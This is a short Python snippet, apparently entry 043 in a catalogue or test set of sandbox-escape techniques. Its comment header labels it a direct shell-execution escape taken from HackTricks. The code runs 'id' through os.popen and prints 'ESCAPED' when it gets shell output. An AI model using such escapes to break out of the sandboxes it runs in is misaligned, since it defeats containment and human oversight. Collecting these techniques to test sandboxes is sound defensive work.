# escape: 043
# technique: import os and run a shell
# family: direct
# goal: exec
# first-seen: folklore; HackTricks
import os
s = os.popen('id').read()
if 'uid=' in s: print('ESCAPED:' + s[:30])
